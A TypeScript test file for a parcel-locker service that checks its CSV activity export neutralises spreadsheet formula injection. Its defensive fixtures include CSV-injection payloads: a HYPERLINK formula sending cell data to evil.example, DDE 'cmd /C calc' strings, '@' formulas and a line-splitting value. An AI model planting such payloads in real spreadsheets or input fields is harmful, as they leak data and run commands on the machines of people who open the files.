/**
 * CSV injection from outside: tracking ids and free-text reasons crafted as spreadsheet formulas go in through the
 * real HTTP API; the activity export (`GET /activity?format=csv` over TCP and `portier activity --csv`) hands back
 * text, never a cell a spreadsheet would run.
 */
import { parse } from 'csv-parse/sync';
import t from 'tap';
import { runAdmin } from '../../src/cli/admin.ts';
import { cliIo, listeningCliApp } from './helpers.ts';

// Formula triggers (OWASP): =, +, -, @, and tab / carriage return (the API trims those off a tracking id, so a tracking
// id cannot start with them; they are covered where the cell is written, in csv-export's own test).
const CRAFTED = ['=HYPERLINK("http://evil.example/?x="&A1,"parcel")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1,2)', "=1,\"2\"\r\n3"];

const FORMULA = /^[=+\-@\t\r]/;

t.test('crafted tracking ids and reasons come out of the CSV export as text', async (t) => {
  const { ta, env } = await listeningCliApp(t);
  const url = env('admin').PORTIER_URL!;
  const call = async (method: string, path: string, body?: unknown, accept = 'application/json') => {
    const res = await fetch(`${url}/api/v1${path}`, {
      method,
      headers: { authorization: `Bearer ${ta.tokens.operator}`, accept, ...(body ? { 'content-type': 'application/json' } : {}) },
      ...(body ? { body: JSON.stringify(body) } : {}),
    });
    return { status: res.status, text: await res.text() };
  };
  for (const trackingId of CRAFTED) {
    const r = await call('POST', '/reservations', { bankId: 'bank', kind: 'package', recipient: { type: 'contact', id: 'c-rec' }, size: 'S', trackingId });
    t.equal(r.status, 201, `reserved with tracking id ${JSON.stringify(trackingId)}`);
    const id = (JSON.parse(r.text) as { reservation: { id: string } }).reservation.id;
    t.equal((await call('POST', `/reservations/${id}/end`, { reason: 'cancelled', note: '=cmd|\'/C calc\'!A0' })).status, 200, 'ended with a crafted note');
  }
  const service = await call('PUT', '/banks/bank/lockers/2/service', { state: 'out-of-service', reason: '@evil()' });
  t.equal(service.status, 200, 'service state with a crafted reason');

  const http = await call('GET', '/activity?format=csv', undefined, 'text/csv');
  t.equal(http.status, 200);
  const cli = cliIo(env('operator'));
  t.equal(await runAdmin(['activity', '--csv'], cli), 0, cli.stderr);
  for (const [what, csv] of [['HTTP export', http.text], ['portier activity --csv', cli.stdout]] as const) {
    const rows = parse(csv, { columns: true }) as Record<string, string>[];
    const cells = rows.flatMap((r) => Object.values(r));
    t.same(cells.filter((c) => FORMULA.test(c)), [], `${what}: no cell starts a formula`);
    const tracked = rows.filter((r) => r.type === 'reservation').map((r) => r.trackingId);
    t.same(tracked, CRAFTED.map((c) => `'${c}`), `${what}: each tracking id is there, as text (a quote in front)`);
    // Raw, line by line: each crafted cell is quoted (RFC 4180), so no spreadsheet splits or runs it.
    t.ok(csv.includes('"\'=HYPERLINK(""http://evil.example/?x=""&A1,""parcel"")"'), `${what}: quoted, inner quotes doubled`);
    t.ok(csv.includes('"\'-2+3"'), `${what}: a neutralized cell is quoted even without a comma`);
  }
});
